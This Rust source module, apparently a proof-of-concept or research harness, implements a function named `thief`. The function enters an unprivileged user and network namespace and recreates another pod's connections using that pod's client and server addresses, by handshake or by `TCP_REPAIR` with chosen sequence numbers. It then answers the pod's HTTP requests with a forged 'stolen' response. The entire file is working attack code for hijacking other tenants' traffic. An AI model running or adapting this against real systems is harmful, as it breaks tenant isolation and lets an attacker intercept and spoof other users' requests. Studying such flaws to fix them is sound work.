//! Another pod's connections, rebuilt in a namespace of one's own.

use std::io::{self, Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpListener, TcpStream};
use std::os::fd::{AsFd as _, AsRawFd as _};
use std::time::{Duration, Instant};

use nix::poll::{PollFd, PollFlags, poll};
use nix::sched::{CloneFlags, unshare};
use socket2::{Domain, Socket, Type};

use super::{Deeds, loopback};

/// Connections that one process keeps at most: half as many as it has descriptors, because it has both ends.
const MOST: usize = 30_000;

/// How long one look for readable connections takes, milliseconds.
const LOOK: u16 = 1000;

/// How the ends of a connection come about.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Ends {
    /// By a handshake.
    Shaken,
    /// By decree, with sequence numbers at will (`TCP_REPAIR`).
    Decreed,
}

/// Rebuilds another pod's upstream connections, addresses and all, in a network namespace of its own, and serves what comes: as any process
/// can, without a capability, where user namespaces are to be had. Calls `ready` when they are made.
///
/// # Errors
/// If there is no namespace to be had, or nothing to be bound in it.
pub fn thief(
    client: Ipv4Addr,
    server: SocketAddrV4,
    ports: std::ops::RangeInclusive<u16>,
    ends: Ends,
    length: Duration,
    ready: impl FnOnce(),
) -> io::Result<Deeds> {
    unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNET)?;
    loopback::up()?;
    for (label, address) in [("lo:1", client), ("lo:2", *server.ip())] {
        loopback::assign(label, address)?;
    }
    let listener = TcpListener::bind(server)?;
    listener.set_nonblocking(true)?;
    let end = Instant::now() + length;
    let mut deeds = Deeds::default();
    let mut kept: Vec<(TcpStream, Option<Socket>)> = Vec::new();
    for port in ports {
        if Instant::now() >= end || kept.len() >= MOST {
            break;
        }
        let made = match ends {
            Ends::Shaken => shake(&listener, client, port, server),
            Ends::Decreed => decree(client, port, server),
        };
        match made {
            Ok(both) => {
                deeds.made += 1;
                kept.push(both);
            }
            Err(_) => deeds.refused += 1,
        }
    }
    ready();
    while Instant::now() < end {
        let mut ends: Vec<_> = (kept.iter())
            .map(|(own, _)| PollFd::new(own.as_fd(), PollFlags::POLLIN))
            .collect();
        poll(&mut ends, LOOK)?;
        let readable: Vec<bool> = ends.iter().map(|end| end.any() == Some(true)).collect();
        let mut readable = readable.into_iter();
        kept.retain_mut(|(own, _)| readable.next() != Some(true) || answer(own, &mut deeds));
    }
    Ok(deeds)
}

/// Takes a request and answers it; false if the connection has ended.
fn answer(own: &mut TcpStream, deeds: &mut Deeds) -> bool {
    let answer = b"HTTP/1.1 200 OK\r\nx-served-by: thief\r\ncontent-length: 6\r\n\r\nstolen";
    if !own.read(&mut [0; 4096]).is_ok_and(|count| count > 0) {
        return false;
    }
    deeds.taken += 1;
    own.write_all(answer).is_ok()
}

fn bound(client: Ipv4Addr, port: u16) -> io::Result<Socket> {
    let own = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    own.set_reuse_address(true)?;
    own.bind(&SocketAddrV4::new(client, port).into())?;
    Ok(own)
}

fn shake(
    listener: &TcpListener,
    client: Ipv4Addr,
    port: u16,
    server: SocketAddrV4,
) -> io::Result<(TcpStream, Option<Socket>)> {
    let own = bound(client, port)?;
    own.connect(&SocketAddr::V4(server).into())?;
    // On a busy machine the last packet of the handshake takes its time.
    poll(
        &mut [PollFd::new(listener.as_fd(), PollFlags::POLLIN)],
        LOOK,
    )?;
    let (accepted, _) = listener.accept()?;
    accepted.set_nonblocking(true)?;
    Ok((accepted, Some(own)))
}

fn decree(
    client: Ipv4Addr,
    port: u16,
    server: SocketAddrV4,
) -> io::Result<(TcpStream, Option<Socket>)> {
    const TCP_REPAIR_OFF_NO_WP: libc::c_int = -1;
    let own = bound(client, port)?;
    set(&own, libc::TCP_REPAIR, 1)?;
    // Of the receive queue, then of the send queue.
    for queue in [1, 2] {
        set(&own, libc::TCP_REPAIR_QUEUE, queue)?;
        set(&own, libc::TCP_QUEUE_SEQ, 1)?;
    }
    own.connect(&SocketAddr::V4(server).into())?;
    set(&own, libc::TCP_REPAIR, TCP_REPAIR_OFF_NO_WP)?;
    own.set_nonblocking(true)?;
    Ok((own.into(), None))
}

fn set(socket: &Socket, option: libc::c_int, value: libc::c_int) -> io::Result<()> {
    // SAFETY: a live descriptor, and the value is as long as said.
    let failed = unsafe {
        libc::setsockopt(
            socket.as_raw_fd(),
            libc::IPPROTO_TCP,
            option,
            (&raw const value).cast(),
            size_of_val(&value) as libc::socklen_t,
        )
    };
    if failed == 0 {
        Ok(())
    } else {
        Err(io::Error::last_os_error())
    }
}
